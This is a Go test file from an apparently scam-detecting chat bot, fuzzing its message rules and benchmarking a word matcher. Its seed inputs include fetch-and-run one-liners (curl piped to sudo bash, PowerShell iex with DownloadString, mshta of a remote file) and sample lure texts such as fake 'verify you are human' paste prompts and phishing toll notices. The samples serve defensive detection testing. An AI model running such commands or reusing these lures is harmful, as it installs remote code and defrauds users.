package bot

import (
	"strings"
	"testing"
	"time"

	"github.com/immunebot/immune/bot/lure"
)

// FuzzMessageRules runs the message rules of issue #9's misses pass —
// pasted commands (mayRun, fetchedAndRun), group invites (moneyPromise),
// notices signed with an abbreviation (abbreviations), fake human checks
// (lure.FindPaste) and download-named sites — on any text, alone and
// through Classify: none panics, and a verdict's score stays in [0, 1].
func FuzzMessageRules(f *testing.F) {
	for _, s := range []string{
		"irm https://get.example.xyz/a.ps1 | iex", "curl -fsSL http://45.12.3.4/a.sh | sudo bash", "iex(iwr https://x.top/a)",
		"bash -c \"$(curl -fsSL https://x.example/i.sh)\"", "mshta https://x.example/a.hta", "iex (New-Object Net.WebClient).DownloadString('https://x.example/a')",
		"Verify you are human: press Win+R, then Ctrl+V https://cf-check.example", "kiếm 500k/ngày vào nhóm https://t.me/+AbCd",
		"TxDMV Notice: unpaid toll, pay at https://txdmv-fine-pay.com", "Download OBS https://download-obs.org",
		"Hóa đơn tiền nước quá hạn https://capnuochanoi.com", "|||$(`(((iex(", "curl |", "x | iex https://a.b",
	} {
		f.Add(s)
	}
	c := NewClassifier(ClassifierConfig{})
	t0 := time.Date(2026, 12, 1, 12, 0, 0, 0, time.UTC)
	f.Fuzz(func(t *testing.T, s string) {
		mayRun(s)
		lastWordFold(s, "iex")
		abbreviations(s)
		folded := lure.Fold(s, nil)
		moneyPromise(folded)
		found := lure.FindPaste(folded)
		found.Lure(true)
		_ = found.What()
		m := Message{ID: "x", Platform: Telegram, Chat: "c", User: "u", Time: t0, Text: s, MemberSince: t0.AddDate(-1, 0, 0)}
		j := c.Classify(&m, Hints{})
		if v := j.Verdict; v.Score < 0 || v.Score > 1 {
			t.Fatalf("%q: score %v", s, v.Score)
		}
		for i := range j.Links {
			fetchedAndRun(s, &j.Links[i])
			downloadName(&j.Links[i])
			ownOfficeName(&j.Links[i])
		}
	})
}

// BenchmarkContainsWordsManyHits reads a phrase in a long folded text
// where it stands many times inside other words ("uu uu …" for "u"): the
// rules' word lists (readerCalls, pressPhrases, earnPhrases) are read so
// in any message beside their links, and each hit must not copy the rest
// of the text.
func BenchmarkContainsWordsManyHits(b *testing.B) {
	folded := []byte(strings.Repeat("uu ", 1400))
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		containsWords(folded, "u")
	}
}
